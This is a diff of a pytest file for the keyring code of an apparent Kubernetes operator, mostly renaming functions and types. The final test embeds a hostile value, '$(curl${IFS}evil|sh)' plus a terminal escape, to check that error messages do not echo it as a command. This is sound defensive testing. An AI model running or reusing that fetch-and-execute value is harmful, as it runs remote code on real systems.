@@ -16,7 +16,7 @@ import pytest
 from freehold.api import names
 from freehold.controllers.keyring.file import FileRing
 from freehold.controllers.keyring.keeper import RingKeeper
-from freehold.controllers.keyring.needs import Need, first_ring, need_of, needs, opened_ring
+from freehold.controllers.keyring.needs import KeyNeed, build_first_ring, need_of, open_ring, read_needs
 from freehold.controllers.keyring.secret import SecretRing
 from freehold.controllers.keyring.stored_form import (
     STALE_SECONDS,
@@ -39,7 +39,7 @@ from freehold.kube.client import KubeClient
 from freehold.kube.config import Connection
 from freehold.kube.object_client import ObjectList
 from freehold.kube.resources import CONFIG_MAPS, NAMESPACES, SECRETS, Json, Key, Resource
-from freehold.providers.crds import custom_resource_definitions
+from freehold.providers.crds import build_crds
 from freehold.providers.ibm import api_names as ibm_names
 from freehold.providers.registry import SERVED_RESOURCES
 from freehold.tags.context import PROVIDERS
@@ -55,7 +55,7 @@ NAMESPACE = "freehold-system"
 @pytest.fixture
 async def client() -> AsyncIterator[KubeClient]:
     store = Store.open(":memory:")
-    api = ApiServer(store, custom_resource_definitions())
+    api = ApiServer(store, build_crds())
     try:
         async with KubeClient(Connection(await api.start())) as talking:
             await talking.create(NAMESPACES, {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE}})
@@ -72,11 +72,11 @@ def place(request: pytest.FixtureRequest, tmp_path: Path, client: KubeClient) ->
 
 async def test_what_was_written_is_read_back(place: RingStore) -> None:
     assert (await place.read()).document is None
-    made = RingDocument.fresh(NOW)
+    made = RingDocument.create(NOW)
     await place.write(made, "")
     found = await place.read()
     assert found.document == made
-    await place.write(made.with_new_key(NOW), found.version)
+    await place.write(made.add_new_key(NOW), found.version)
     again = (await place.read()).document
     assert again is not None
     assert again.keys.keys() > made.keys.keys()
@@ -84,22 +84,22 @@ async def test_what_was_written_is_read_back(place: RingStore) -> None:
 
 async def test_the_second_writer_is_refused(place: RingStore) -> None:
     """Otherwise an unused key would overwrite one that objects already name."""
-    first = RingDocument.fresh(NOW)
+    first = RingDocument.create(NOW)
     await place.write(first, "")
     with pytest.raises(ChangedRing):
-        await place.write(RingDocument.fresh(NOW), "")
+        await place.write(RingDocument.create(NOW), "")
     found = await place.read()
-    await place.write(first.with_new_key(NOW), found.version)
+    await place.write(first.add_new_key(NOW), found.version)
     with pytest.raises(ChangedRing):
-        await place.write(first.with_new_key(NOW), found.version)
+        await place.write(first.add_new_key(NOW), found.version)
 
 
 async def test_two_operators_that_start_at_once_get_one_ring(place: RingStore) -> None:
-    async def nothing() -> list[Need]:
+    async def nothing() -> list[KeyNeed]:
         await run_ready_tasks(1)  # both have read before either writes
         return []
 
-    rings = await asyncio.gather(*(opened_ring(place, nothing, NOW) for _ in range(2)))
+    rings = await asyncio.gather(*(open_ring(place, nothing, NOW) for _ in range(2)))
     assert rings[0].document == rings[1].document
     assert rings[0].document is not None
 
@@ -111,8 +111,8 @@ async def test_only_the_user_may_read_the_file(tmp_path: Path) -> None:
     path = tmp_path / "state.keys"
     before = os.umask(0)
     try:
-        await FileRing(path).write(RingDocument.fresh(NOW), "")
-        await FileRing(path).write(RingDocument.fresh(NOW), (await FileRing(path).read()).version)
+        await FileRing(path).write(RingDocument.create(NOW), "")
+        await FileRing(path).write(RingDocument.create(NOW), (await FileRing(path).read()).version)
     finally:
         os.umask(before)
     assert path.stat().st_mode & 0o777 == 0o600
@@ -124,7 +124,7 @@ async def test_a_file_that_others_can_read_is_refused_and_the_message_has_the_co
     tmp_path: Path, mode: int
 ) -> None:
     path = tmp_path / "state.keys"
-    await FileRing(path).write(RingDocument.fresh(NOW), "")
+    await FileRing(path).write(RingDocument.create(NOW), "")
     path.chmod(mode)
     with pytest.raises(UnreadableRing, match=f"chmod 600 {path}"):
         await FileRing(path).read()
@@ -132,7 +132,7 @@ async def test_a_file_that_others_can_read_is_refused_and_the_message_has_the_co
 
 async def test_a_file_of_another_user_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """In a shared directory another user could put a ring there before ours is made."""
-    await FileRing(tmp_path / "state.keys").write(RingDocument.fresh(NOW), "")
+    await FileRing(tmp_path / "state.keys").write(RingDocument.create(NOW), "")
     monkeypatch.setattr(os, "geteuid", lambda: 4711)
     with pytest.raises(UnreadableRing, match="belongs to another user"):
         await FileRing(tmp_path / "state.keys").read()
@@ -149,7 +149,7 @@ async def test_a_place_that_is_not_a_file_is_refused(tmp_path: Path) -> None:
 
 async def test_a_directory_that_cannot_be_written_is_named(tmp_path: Path) -> None:
     with pytest.raises(UnreadableRing, match=r"none/state\.keys cannot be written"):
-        await FileRing(tmp_path / "none" / "state.keys").write(RingDocument.fresh(NOW), "")
+        await FileRing(tmp_path / "none" / "state.keys").write(RingDocument.create(NOW), "")
 
 
 # --- the Secret ----------------------------------------------------------------------------------
@@ -165,11 +165,11 @@ async def test_an_empty_secret_means_that_there_is_no_ring(client: KubeClient) -
             raise kube.Forbidden("secrets is forbidden")
 
     async with NoCreate(client.connection) as limited:
-        made = await opened_ring(SecretRing(limited, NAMESPACE), nobody, NOW)
+        made = await open_ring(SecretRing(limited, NAMESPACE), nobody, NOW)
     assert made == await SecretRing(client, NAMESPACE).read()
 
 
-async def nobody() -> list[Need]:
+async def nobody() -> list[KeyNeed]:
     return []
 
 
@@ -178,13 +178,13 @@ async def test_a_secret_without_a_readable_ring_is_never_overwritten(client: Kub
     secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "freehold-keys", "namespace": NAMESPACE}}
     await client.create(SECRETS, {**secret, "data": data})
     with pytest.raises(UnreadableRing, match="Secret freehold-system/freehold-keys"):
-        await opened_ring(SecretRing(client, NAMESPACE), nobody, NOW)
+        await open_ring(SecretRing(client, NAMESPACE), nobody, NOW)
     assert (await client.get(SECRETS, Key(NAMESPACE, "freehold-keys")))["data"] == data
 
 
 async def test_a_missing_namespace_is_reported_with_the_command(client: KubeClient) -> None:
     with pytest.raises(UnreadableRing, match="kubectl create namespace elsewhere"):
-        await opened_ring(SecretRing(client, "elsewhere"), nobody, NOW)
+        await open_ring(SecretRing(client, "elsewhere"), nobody, NOW)
 
 
 async def test_a_secret_that_may_not_be_read_does_not_count_as_missing(client: KubeClient) -> None:
@@ -196,7 +196,7 @@ async def test_a_secret_that_may_not_be_read_does_not_count_as_missing(client: K
 
     async with Refused(client.connection) as refused:
         with pytest.raises(UnreadableRing, match="'get' and 'update'"):
-            await opened_ring(SecretRing(refused, NAMESPACE), nobody, NOW)
+            await open_ring(SecretRing(refused, NAMESPACE), nobody, NOW)
 
 
 # --- when a ring is made -------------------------------------------------------------------------
@@ -259,17 +259,17 @@ def _named(node: str) -> RecordName:
 def test_no_ring_is_made_if_an_object_may_name_a_key(case: str) -> None:
     """With a new ring everything of that object would look like a stranger's."""
     with pytest.raises(MissingRing, match="freehold keys add FILE") as refusal:
-        first_ring("/state.keys", [need_of(NEEDS["new"][0]), need_of(NEEDS[case][0])], NOW)
+        build_first_ring("/state.keys", [need_of(NEEDS["new"][0]), need_of(NEEDS[case][0])], NOW)
     assert "/state.keys" in refusal.value.message
     assert "team/c1" in refusal.value.message
 
 
 async def test_no_ring_is_made_while_the_objects_cannot_be_listed(tmp_path: Path) -> None:
-    async def unavailable() -> list[Need]:
+    async def unavailable() -> list[KeyNeed]:
         raise kube.Unavailable("no answer")
 
     with pytest.raises(UnreachableRing):
-        await opened_ring(FileRing(tmp_path / "state.keys"), unavailable, NOW)
+        await open_ring(FileRing(tmp_path / "state.keys"), unavailable, NOW)
     assert list(tmp_path.iterdir()) == []
 
 
@@ -295,15 +295,15 @@ async def test_no_ring_is_made_while_one_kind_of_several_cannot_be_listed(
     """Its objects may name a key of the ring that is lost: a new one could prove nothing of theirs."""
     async with Listing(client.connection) as listing:
 
-        async def needed() -> list[Need]:
-            return [*await needs(listing, SERVED_RESOURCES), *await tag_needs(listing, NAMESPACE)]
+        async def needed() -> list[KeyNeed]:
+            return [*await read_needs(listing, SERVED_RESOURCES), *await tag_needs(listing, NAMESPACE)]
 
         listing.refused = {kind: refusal("no answer")}
         with pytest.raises(UnreachableRing):
-            await opened_ring(FileRing(tmp_path / "state.keys"), needed, NOW)
+            await open_ring(FileRing(tmp_path / "state.keys"), needed, NOW)
         assert list(tmp_path.iterdir()) == []
         listing.refused = {kind: kube.NotFound("not installed")} if kind != CONFIG_MAPS.kind else {}
-        assert (await opened_ring(FileRing(tmp_path / "state.keys"), needed, NOW)).document is not None
+        assert (await open_ring(FileRing(tmp_path / "state.keys"), needed, NOW)).document is not None
 
 
 # --- the keeper ----------------------------------------------------------------------------------
@@ -320,14 +320,14 @@ class Told:
 async def test_a_changed_ring_is_announced_and_an_equal_one_is_not(tmp_path: Path) -> None:
     place = FileRing(tmp_path / "state.keys")
     keeper, told = RingKeeper(place, nobody, lambda: NOW, 1.0), Told()
-    keeper.changed = told
+    keeper.on_change = told
     assert keeper.problem
     await keeper.refresh()
     await keeper.refresh()
     assert (keeper.problem, told.times) == ("", 1)
     found = await place.read()
     assert found.document is not None
-    await place.write(found.document.with_new_key(NOW), found.version)
+    await place.write(found.document.add_new_key(NOW), found.version)
     await keeper.refresh()
     assert told.times == 2
     assert len(keeper.ring.keys) == 2
@@ -397,12 +397,12 @@ async def test_an_object_that_misses_a_key_makes_the_next_read_of_the_ring_come_
     place, seen = FileRing(tmp_path / "state.keys"), asyncio.Event()
     keeper = RingKeeper(place, nobody, lambda: NOW, poll=3600.0, soonest=0.01)
     await keeper.refresh()
-    keeper.changed = seen.set
+    keeper.on_change = seen.set
     running = asyncio.create_task(keeper.run())
     found = await place.read()
     assert found.document is not None
-    await place.write(found.document.with_new_key(NOW), found.version)
-    keeper.missed()
+    await place.write(found.document.add_new_key(NOW), found.version)
+    keeper.report_missing_key()
     try:
         async with asyncio.timeout(10.0):
             await seen.wait()
@@ -426,8 +426,8 @@ async def test_no_key_gets_into_the_log(tmp_path: Path, caplog: pytest.LogCaptur
 
 
 def test_a_text_that_is_no_digest_stands_in_no_command() -> None:
-    need = Need(Key("a", "b"), "uuid", frozenset({"$(curl${IFS}evil|sh)\x1b[2J"}))
+    need = KeyNeed(Key("a", "b"), "uuid", frozenset({"$(curl${IFS}evil|sh)\x1b[2J"}))
     with pytest.raises(MissingRing) as refused:
-        first_ring("here", [need], NOW)
+        build_first_ring("here", [need], NOW)
     assert "freehold keys accept" not in str(refused.value)
     assert "\x1b" not in str(refused.value)
